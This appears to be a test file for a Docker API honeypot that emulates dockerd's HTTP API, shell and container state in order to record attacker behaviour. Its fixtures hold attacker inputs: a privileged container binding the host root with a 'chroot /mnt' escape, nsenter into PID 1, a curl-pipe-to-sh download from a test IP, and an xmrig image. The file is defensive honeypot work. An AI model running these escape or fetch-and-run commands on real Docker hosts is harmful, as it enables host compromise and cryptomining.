import { describe, expect, test } from "bun:test";
import { DockerApi, goJson, MULTIPLEXED_STREAM, type Outcome, tarName } from "../../src/honeypots/docker/api";
import { Console } from "../../src/honeypots/docker/console";
import { humanDuration, parseRef, release } from "../../src/honeypots/docker/facts";
import { frame, RequestParser, responseHead } from "../../src/honeypots/docker/http";
import { match } from "../../src/honeypots/docker/routes";
import { commandLine, run, split } from "../../src/honeypots/docker/shell";
import { type Attacher, DaemonState, LIMITS } from "../../src/honeypots/docker/state";

const HOST = { hostname: "docker-host", engineId: "0b2ae8bd-fc82-4dd9-a99c-73e82a174ccb", ncpu: 8, memTotal: 33_605_726_208, dockerRoot: "/var/lib/docker" };

function parseAll(parser: RequestParser): any[] {
  const out: any[] = [];
  for (;;) {
    const item = parser.next();
    if (item.kind === "need") return out;
    out.push(item.kind === "body" ? { kind: "body", data: item.data.toString() } : item.kind === "head" ? { kind: "head", method: item.head.method, target: item.head.target, body: item.head.body, keepAlive: item.head.keepAlive, upgrade: item.head.upgrade } : item);
    if (item.kind === "error") return out;
  }
}

describe("the HTTP codec", () => {
  test("parses requests split anywhere, with Content-Length and chunked bodies, keep-alive and upgrade", () => {
    const wire =
      "HEAD /_ping HTTP/1.1\r\nHost: x\r\n\r\n" +
      "POST /v1.45/containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 7\r\n\r\n{\"a\":1}" +
      "PUT /containers/c/archive?path=/tmp HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n2;ext=1\r\nde\r\n0\r\n\r\n" +
      "POST /containers/c/attach?stream=1 HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n" +
      "GET / HTTP/1.0\r\n\r\n";
    const parser = new RequestParser();
    const items: any[] = [];
    for (let i = 0; i < wire.length; i += 5) {
      expect(parser.push(Buffer.from(wire.slice(i, i + 5)))).toBe(true);
      items.push(...parseAll(parser));
    }
    const merged = items.reduce((acc: any[], item) => {
      const last = acc.at(-1);
      if (item.kind === "body" && last?.kind === "body") last.data += item.data;
      else acc.push({ ...item });
      return acc;
    }, []);
    expect(merged).toEqual([
      { kind: "head", method: "HEAD", target: "/_ping", body: 0, keepAlive: true, upgrade: false },
      { kind: "head", method: "POST", target: "/v1.45/containers/create", body: 7, keepAlive: true, upgrade: false },
      { kind: "body", data: '{"a":1}' },
      { kind: "end" },
      { kind: "head", method: "PUT", target: "/containers/c/archive?path=/tmp", body: "chunked", keepAlive: true, upgrade: false },
      { kind: "body", data: "abcde" },
      { kind: "end" },
      { kind: "head", method: "POST", target: "/containers/c/attach?stream=1", body: 0, keepAlive: true, upgrade: true },
      { kind: "head", method: "GET", target: "/", body: 0, keepAlive: false, upgrade: false },
    ]);
  });

  test("refuses what Go's server refuses: garbage, HTTP/1.1 without Host, a head past its bound, a bad chunk", () => {
    const errorOf = (wire: string) => {
      const parser = new RequestParser(1 << 20);
      parser.push(Buffer.from(wire));
      return parseAll(parser).at(-1);
    };
    expect(errorOf("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\n")).toEqual({ kind: "error", status: 400, reason: "Bad Request" });
    expect(errorOf("GET /version HTTP/1.1\r\n\r\n")).toEqual({ kind: "error", status: 400, reason: "Bad Request: missing required Host header" });
    expect(errorOf(`GET / HTTP/1.1\r\nHost: x\r\nX: ${"a".repeat(70_000)}`)).toEqual({ kind: "error", status: 431, reason: "Request Header Fields Too Large" });
    expect(errorOf("POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n")).toEqual({ kind: "error", status: 400, reason: "Bad Request" });
    expect(new RequestParser(16).push(Buffer.alloc(17))).toBe(false);
  });

  test("writes a head in net/http's order: handler headers sorted, Date, length", () => {
    const head = responseHead({ minor: 0, status: 200, headers: { Server: "Docker/26.1.4 (linux)", Ostype: "linux", "Api-Version": "1.45", "Docker-Experimental": "false" }, length: 0, close: true, date: "Sat, 28 Nov 2026 00:00:00 GMT" });
    // The exact shape nmap's HTTPOptions match for dockerd expects.
    expect(head).toBe("HTTP/1.0 200 OK\r\nApi-Version: 1.45\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/26.1.4 (linux)\r\nDate: Sat, 28 Nov 2026 00:00:00 GMT\r\nContent-Length: 0\r\n\r\n");
    expect(responseHead({ minor: 1, status: 204, headers: {}, length: "none", close: true, date: "D" })).toBe("HTTP/1.1 204 No Content\r\nDate: D\r\nConnection: close\r\n\r\n");
    expect([...frame(2, "hi")]).toEqual([2, 0, 0, 0, 0, 0, 0, 2, 104, 105]);
    expect(goJson({ a: "<b>&" })).toBe('{"a":"\\u003cb\\u003e\\u0026"}');
  });
});

describe("routes and references", () => {
  test("match with and without the version prefix, refuse versions outside 1.24-1.45, and 404 the rest", () => {
    expect(match("GET", "/v1.45/containers/json?all=1", "1.45")).toMatchObject({ route: { name: "containers.list" }, target: { version: "1.45", path: "/containers/json" } });
    expect(match("POST", "/containers/abc/start", "1.45")).toMatchObject({ route: { name: "containers.start", params: ["abc"] } });
    expect(match("GET", "/v1.45/images/ghcr.io/x/y:1/json", "1.45")).toMatchObject({ route: { name: "images.inspect", params: ["ghcr.io/x/y:1"] } });
    expect(match("GET", "/v1.50/version", "1.45")).toEqual({ error: "version", message: "client version 1.50 is too new. Maximum supported API version is 1.45" });
    expect(match("GET", "/v1.12/version", "1.45")).toMatchObject({ error: "version" });
    expect(match("GET", "/containers/create", "1.45")).toEqual({ error: "not found" });
    expect(match("GET", "/", "1.45")).toEqual({ error: "not found" });
    expect(match("OPTIONS", "/", "1.45")).toMatchObject({ route: { name: "options" } });
  });

  test("image references come out as docker images shows them", () => {
    expect(parseRef("docker.io/library/alpine", "latest")).toEqual({ repo: "alpine", tag: "latest", remote: "library/alpine" });
    expect(parseRef("alpine")).toEqual({ repo: "alpine", tag: "latest", remote: "library/alpine" });
    expect(parseRef("xmrig/xmrig:6.21")).toEqual({ repo: "xmrig/xmrig", tag: "6.21", remote: "xmrig/xmrig" });
    expect(parseRef("ghcr.io/a/b@sha256:00")).toEqual({ repo: "ghcr.io/a/b", tag: "latest", remote: "a/b" });
    expect(parseRef("localhost:5000/x:1")).toEqual({ repo: "localhost:5000/x", tag: "1", remote: "x" });
    expect(parseRef("UPPER")).toBeNull();
    expect(parseRef("a b")).toBeNull();
    expect(release("27.1.0")).toMatchObject({ version: "27.1.0", api: "1.47" });
    expect([500, 1000, 30_000, 60_000, 300_000, 3_600_000, 36 * 3_600_000, 19 * 86_400_000].map(humanDuration)).toEqual([
      "Less than a second",
      "1 second",
      "30 seconds",
      "About a minute",
      "5 minutes",
      "About an hour",
      "36 hours",
      "2 weeks",
    ]);
  });
});

describe("the shell emulation", () => {
  const ctx = { flavour: "alpine" as const, hostname: "0123456789ab", hostHostname: "docker-host", hostMounts: ["/mnt"], ncpu: 8 };

  test("answers reconnaissance commands as the image, or as the host after chroot into a bind of /", () => {
    expect(run(["id"], ctx)).toEqual({ stdout: "uid=0(root) gid=0(root) groups=0(root),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)\n", stderr: "", exitCode: 0, finished: true });
    expect(run(["chroot", "/mnt", "sh", "-c", "id && hostname; cat /etc/hostname"], ctx).stdout).toBe("uid=0(root) gid=0(root) groups=0(root)\ndocker-host\ndocker-host\n");
    expect(run(["sh", "-c", "cat /mnt/etc/os-release | head -1; uname -a"], ctx)).toMatchObject({ stdout: "Linux 0123456789ab 5.15.0-112-generic #122-Ubuntu SMP Thu May 23 07:48:21 UTC 2024 x86_64 Linux\n", finished: false });
    expect(run(["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh", "-c", "cat /etc/os-release"], ctx).stdout).toStartWith('PRETTY_NAME="Ubuntu 22.04.4 LTS"\n');
    expect(run(["/bin/sh", "-c", "cat /nope || echo 'fell back'"], ctx)).toMatchObject({ stdout: "fell back\n", stderr: "cat: can't open '/nope': No such file or directory\n" });
    expect(run(["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"], ctx)).toEqual({ stdout: "", stderr: "", exitCode: 0, finished: false });
    expect(run(["sleep", "3600"], ctx).finished).toBe(false);
  });

  test("splits scripts with sh's quoting and prints argv the way a shell would take it back", () => {
    expect(split(`echo "a b" 'c;d' e\\ f # note\nid&&x || y | z`).map((c) => [c.op, c.words, c.piped])).toEqual([
      [";", ["echo", "a b", "c;d", "e f"], false],
      [";", ["id"], false],
      ["&&", ["x"], false],
      ["||", ["y"], true],
      [";", ["z"], true],
    ]);
    expect(commandLine(["chroot", "/mnt", "sh", "-c", "echo 'hi'; id"])).toBe(`chroot /mnt sh -c 'echo '\\''hi'\\''; id'`);
  });

  test("a console plays the shell's side of a terminal and records each line", () => {
    const typed: string[] = [];
    const con = new Console({ tty: true, prompt: "/ # ", maxLine: 8, run: (line) => (typed.push(line), run(["sh", "-c", line], ctx)) });
    expect(con.open()).toEqual([{ stream: 1, text: "/ # " }]);
    const r = con.input(Buffer.from("ix\x7fd\r"));
    expect(r.lines).toEqual(["id"]);
    expect(r.printed.map((p) => p.text).join("")).toBe("ix\b \bd\r\nuid=0(root) gid=0(root) groups=0(root),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)\r\n/ # ");
    expect(con.input(Buffer.from("\x1b[Aecho 0123456789\rexit\r"))).toMatchObject({ lines: ["echo 012", "exit"], exit: true });
    expect(typed).toEqual(["id", "echo 012"]);
  });
});

describe("the API over the fake state", () => {
  const api = () => new DockerApi(release("26.1.4"), new DaemonState(HOST), HOST, 2375);
  const call = (a: DockerApi, method: string, target: string, body?: unknown): Outcome => {
    const m = match(method, target, "1.45");
    if (!("route" in m)) throw new Error(`no route for ${method} ${target}`);
    return a.handle({ method, route: m.route, target: m.target, contentType: "application/json", body: Buffer.from(body === undefined ? "" : JSON.stringify(body)) });
  };

  test("docker run as the client drives it: create refused, pull, create, attach, wait, start, exit, removal", () => {
    const a = api();
    const spec = { Image: "alpine", Cmd: ["chroot", "/mnt", "sh", "-c", "id"], Env: ["A=1"], HostConfig: { Binds: ["/:/mnt"], Privileged: true, AutoRemove: true, NetworkMode: "host", PidMode: "host", CapAdd: ["SYS_ADMIN"] } };
    const refused = call(a, "POST", "/v1.45/containers/create", spec);
    expect(refused.reply).toEqual({ type: "json", status: 404, body: { message: "No such image: alpine:latest" } });
    expect(refused.events[0]).toMatchObject({ event: "container.create", fields: { result: "no_such_image", container_id: null, privileged: true } });

    const pulled = call(a, "POST", "/v1.45/images/create?fromImage=docker.io%2Flibrary%2Falpine&tag=latest");
    expect(pulled.events).toEqual([{ event: "image.pull", fields: { image: "alpine", tag: "latest", from_image: "docker.io/library/alpine", present: false } }]);
    const lines = (pulled.reply as { parts: Buffer[] }).parts.map((p) => JSON.parse(p.toString()).status);
    expect(lines[0]).toBe("Pulling from library/alpine");
    expect(lines.at(-1)).toBe("Status: Downloaded newer image for alpine:latest");
    expect(lines).toContain("Pull complete");

    const created = call(a, "POST", "/v1.45/containers/create?name=pwn", spec);
    const id = (created.reply as { body: { Id: string } }).body.Id;
    expect(created.reply).toEqual({ type: "json", status: 201, body: { Id: id, Warnings: [] } });
    expect(created.events).toEqual([
      {
        event: "container.create",
        fields: {
          name: "pwn",
          image: "alpine",
          cmd: ["chroot", "/mnt", "sh", "-c", "id"],
          entrypoint: [],
          command: "chroot /mnt sh -c id",
          env: ["A=1"],
          binds: ["/:/mnt"],
          mounts: [],
          privileged: true,
          network_mode: "host",
          pid_mode: "host",
          cap_add: ["SYS_ADMIN"],
          user: "",
          working_dir: "",
          tty: false,
          auto_remove: true,
          container_id: id,
          result: "created",
        },
      },
      { event: "command.input", fields: { input: "chroot /mnt sh -c id", container_id: id, source: "container.create" } },
    ]);

    const attach = call(a, "POST", `/v1.45/containers/${id.slice(0, 12)}/attach?stream=1&stdout=1&stderr=1`);
    expect(attach.reply).toMatchObject({ type: "attach", contentType: MULTIPLEXED_STREAM, multiplexed: true, stdin: false });
    expect(call(a, "POST", `/v1.41/containers/${id}/attach?stream=1&stdout=1`).reply).toMatchObject({ contentType: "application/vnd.docker.raw-stream", multiplexed: true });
    const got: string[] = [];
    const attacher: Attacher = { write: (s, t) => got.push(`${s}:${t}`), end: () => got.push("end") };
    a.state.attach(a.state.find(id)!, attacher);
    expect(call(a, "POST", `/v1.45/containers/${id}/wait?condition=removed`).reply).toEqual({ type: "wait", ref: id, condition: "removed" });
    const codes: number[] = [];
    a.state.wait(id, "removed", (code) => codes.push(code));
    expect(call(a, "POST", `/v1.45/containers/pwn/start`).events[0]).toMatchObject({ event: "container.start", fields: { container_id: id, command: "chroot /mnt sh -c id" } });
    expect(got).toEqual(["1:uid=0(root) gid=0(root) groups=0(root)\n", "end"]);
    expect(codes).toEqual([0]);
    expect(a.state.find(id)).toBeUndefined();
    // A wait that arrives after --rm took the container still gets its status.
    a.state.wait(id, "removed", (code) => codes.push(code));
    expect(codes).toEqual([0, 0]);
  });

  test("a detached container keeps running: ps lists it, exec answers, logs replay, delete needs force", () => {
    const a = api();
    call(a, "POST", "/images/create?fromImage=alpine");
    const id = (call(a, "POST", "/containers/create", { Image: "alpine", Cmd: ["sh", "-c", "echo started; sleep 9999"] }).reply as { body: { Id: string } }).body.Id;
    call(a, "POST", `/containers/${id}/start`);
    expect(call(a, "POST", `/containers/${id}/start`).reply).toEqual({ type: "empty", status: 304 });
    const ps = call(a, "GET", "/v1.45/containers/json").reply as { body: Record<string, unknown>[] };
    expect(ps.body[0]).toMatchObject({ Id: id, Image: "alpine", Command: "sh -c 'echo started; sleep 9999'", State: "running", Status: "Up Less than a second" });
    const exec = call(a, "POST", `/v1.45/containers/${id}/exec`, { Cmd: ["uname", "-r"], AttachStdout: true });
    const execId = (exec.reply as { body: { Id: string } }).body.Id;
    expect(exec.events.map((e) => e.event)).toEqual(["exec.create", "command.input"]);
    expect(call(a, "POST", `/v1.45/exec/${execId}/start`, { Detach: false, Tty: false }).reply).toMatchObject({ type: "exec", contentType: MULTIPLEXED_STREAM });
    expect(a.state.runExec(a.state.execs.get(execId)!).stdout).toBe("5.15.0-112-generic\n");
    expect((call(a, "GET", `/v1.45/exec/${execId}/json`).reply as { body: unknown }).body as Record<string, unknown>).toMatchObject({ ExitCode: 0, Running: false, ContainerID: id });
    const logs = call(a, "GET", `/v1.45/containers/${id}/logs?stdout=1&stderr=1`).reply as { parts: Buffer[] };
    expect([...Buffer.concat(logs.parts)]).toEqual([...frame(1, "started\n")]);
    expect((call(a, "GET", `/v1.45/containers/${id}/top`).reply as { body: { Processes: string[][] } }).body.Processes[0]).toEqual(["root", expect.any(String), expect.any(String), "0", expect.any(String), "?", "00:00:00", "sh -c 'echo started; sleep 9999'"]);
    expect(call(a, "DELETE", `/v1.45/containers/${id}`).reply).toMatchObject({ status: 409 });
    expect(call(a, "POST", `/v1.45/containers/${id}/kill?signal=SIGCONT`).reply).toEqual({ type: "empty", status: 204 });
    expect(a.state.find(id)?.status).toBe("running");
    expect(call(a, "POST", `/v1.45/containers/${id}/kill?signal=__proto__`).reply).toMatchObject({ status: 400 });
    expect(call(a, "POST", `/v1.45/containers/${id}/kill`).reply).toEqual({ type: "empty", status: 204 });
    expect(a.state.find(id)).toMatchObject({ status: "exited", exitCode: 137 });
    expect(call(a, "POST", `/v1.45/containers/${id}/kill`).reply).toMatchObject({ status: 409 });
    expect(call(a, "DELETE", `/v1.45/containers/${id}?force=1`).reply).toEqual({ type: "empty", status: 204 });
    expect(call(a, "DELETE", `/v1.45/containers/${id}`).reply).toMatchObject({ status: 404 });
    expect(call(a, "GET", `/v1.45/containers/${id}/json`).reply).toEqual({ type: "json", status: 404, body: { message: `No such container: ${id}` } });
    expect(call(a, "POST", "/v1.45/containers/create", "not an object").reply).toMatchObject({ status: 400 });
  });

  test("the state stays bounded however many containers a bot creates", () => {
    const a = api();
    call(a, "POST", "/images/create?fromImage=alpine");
    for (let i = 0; i < LIMITS.containers * 3; i++) {
      const id = (call(a, "POST", "/containers/create", { Image: "alpine", Cmd: ["sleep", "1"] }).reply as { body: { Id: string } }).body.Id;
      call(a, "POST", `/containers/${id}/start`);
      call(a, "POST", `/containers/${id}/exec`, { Cmd: ["id"] });
    }
    expect(a.state.containers.size).toBe(LIMITS.containers);
    expect(a.state.execs.size).toBeLessThanOrEqual(LIMITS.execs);
  });

  test("a tar's first file name is read from its ustar header", () => {
    const header = Buffer.alloc(512);
    header.write("payload.sh", 0);
    header.write("ustar", 257);
    expect(tarName(header)).toBe("payload.sh");
    expect(tarName(Buffer.alloc(512))).toBeNull();
  });
});
